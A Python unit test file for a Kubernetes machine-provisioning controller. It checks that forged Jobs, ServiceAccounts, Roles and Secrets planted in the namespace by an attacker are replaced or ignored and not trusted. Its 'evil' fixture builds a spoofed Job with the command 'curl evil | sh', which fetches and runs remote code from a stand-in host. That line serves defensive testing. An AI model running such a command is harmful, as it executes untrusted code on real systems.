"""Somebody who may write in the cluster's namespace gets nothing run, nothing believed and no credential."""

from __future__ import annotations

from typing import Any

from remuda.kube.builtin_resources import ROLES, SECRETS, SERVICE_ACCOUNTS
from remuda.kube.objects import annotations_of, name_of, owner_references_of, uid_of, with_metadata
from remuda.kube.owners import reference
from remuda.machines.machineprovision.well_known import JOB_UID, JOBS, job_name, state_name
from tests.unit.provisioning.rke_machines import DEMO, FLEET

from .driver_machines import CLUSTERS, Papers, papers

Obj = dict[str, Any]


def evil(infra: Obj, **spec: Any) -> Obj:
    """A Job that looks like the machine's."""
    container = {"name": "machine", "image": "evil", "command": ["sh", "-c", "curl evil | sh"]}
    labels = {
        "rke.cattle.io/infra-machine-group": "rke-machine.cattle.io",
        "rke.cattle.io/infra-machine-version": "v1",
        "rke.cattle.io/infra-machine-kind": "PaperMachine",
        "rke.cattle.io/infra-machine-name": name_of(infra),
        "rke.cattle.io/infra-remove": "false",
        "rke.cattle.io/capi-machine-name": name_of(infra),
    }
    pod = {"restartPolicy": "Never", "serviceAccountName": job_name(name_of(infra)), "containers": [container]}
    meta = {"name": job_name(name_of(infra)), "namespace": FLEET, "labels": labels}
    meta["ownerReferences"] = [reference(infra, controller=True)]
    body = {
        "backoffLimit": 0,
        "managedBy": "remuda.dev/job-runner",
        "template": {"metadata": {"labels": labels}, "spec": pod},
        **spec,
    }
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": meta, "spec": body}


async def replaced(made: Papers, theirs: Obj) -> None:
    job = await made.job()
    assert job is not None and uid_of(job) != uid_of(theirs)
    assert "command" not in job["spec"]["template"]["spec"]["containers"][0]
    assert annotations_of(await made.get())[JOB_UID] == uid_of(job)


async def test_a_job_that_was_there_first_is_not_taken_for_ours() -> None:
    async with papers(begin=False) as made:
        await made.cluster()
        infra = await made.machine()
        theirs = await made.world.create(JOBS, evil(infra))
        made.world.begin()
        await made.world.settle(5)
        await replaced(made, theirs)


async def test_a_job_that_takes_the_place_of_ours_is_not_believed() -> None:
    async with papers() as made:
        await made.cluster()
        infra = await made.machine()
        await made.world.settle()
        await made.world.delete(JOBS, job_name("m1"), FLEET)
        theirs = await made.world.find(JOBS, job_name("m1"), FLEET)
        if theirs is None:
            theirs = await made.world.create(JOBS, evil(infra))
            await made.succeeds()
            await made.world.settle(5)
            await replaced(made, theirs)
        assert await made.condition("CreateJob") == ("Unknown", ""), "what it says of itself counts for nothing"


async def test_what_was_put_in_the_place_of_our_objects_is_not_used() -> None:
    async with papers(begin=False) as made:
        await made.cluster()
        infra = await made.machine()
        meta = {"name": job_name("m1"), "namespace": FLEET}
        every = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
        await made.world.create(
            ROLES, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": meta, "rules": every}
        )
        account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta}
        theirs = await made.world.create(SERVICE_ACCOUNTS, account)
        state = {"apiVersion": "v1", "kind": "Secret", "metadata": {**meta, "name": state_name("m1")}, "type": "Opaque"}
        await made.world.create(SECRETS, {**state, "immutable": True, "data": {"extractedConfig": "eA=="}})
        made.world.begin()
        await made.world.settle(5)
        assert await made.job() is not None
        found = await made.world.get(SERVICE_ACCOUNTS, job_name("m1"), FLEET)
        assert uid_of(found) != uid_of(theirs), "tokens of theirs are none of ours"
        secret = await made.world.get(SECRETS, state_name("m1"), FLEET)
        assert secret["type"] == "rke.cattle.io/machine-state" and not secret.get("data") and not secret.get("immutable")
        role = await made.world.get(ROLES, job_name("m1"), FLEET)
        assert role["rules"][0]["resourceNames"] == [state_name("m1")]
        for each in (found, secret, role):
            assert [owner["uid"] for owner in owner_references_of(each)] == [uid_of(infra)]


async def test_a_machine_that_no_pool_asks_for_is_not_made() -> None:
    async with papers() as made:
        await made.cluster()
        pools = [{"name": "workers", "workerRole": True, "machineConfigRef": {"kind": "PodConfig", "name": "c"}}]
        await made.world.patch(CLUSTERS, DEMO, {"spec": {"rkeConfig": {"machinePools": pools}}}, FLEET)
        await made.machine()
        await made.world.settle(100)
        assert await made.job() is None
        ready = next(each for each in (await made.get())["status"]["conditions"] if each["type"] == "Ready")
        assert "no pool of a cluster" in ready["message"]


async def test_what_only_has_the_name_of_ours_survives_the_machine() -> None:
    async with papers() as made:
        await made.cluster()
        await made.made()
        # Somebody's own Secret, where ours would be if Jobs were pods.
        meta = {"name": "m1-machine-driver-secret", "namespace": FLEET}
        await made.world.create(SECRETS, {"apiVersion": "v1", "kind": "Secret", "metadata": meta})
        await made.world.patch(_PAPERS, "m1", {"spec": {"providerID": "x"}}, FLEET)
        await made.world.settle()
        assert await made.job() is None
        assert await made.world.find(SECRETS, meta["name"], FLEET) is not None


async def test_a_foreign_job_is_left_alone() -> None:
    async with papers() as made:
        await made.cluster()
        infra = await made.machine()
        await made.world.settle()
        other = evil(infra)
        other = with_metadata(other, name="theirs", ownerReferences=None)
        await made.world.create(JOBS, other)
        await made.world.settle(5)
        assert await made.world.find(JOBS, "theirs", FLEET) is not None


_PAPERS = JOBS._replace(group="rke-machine.cattle.io", resource="papermachines")
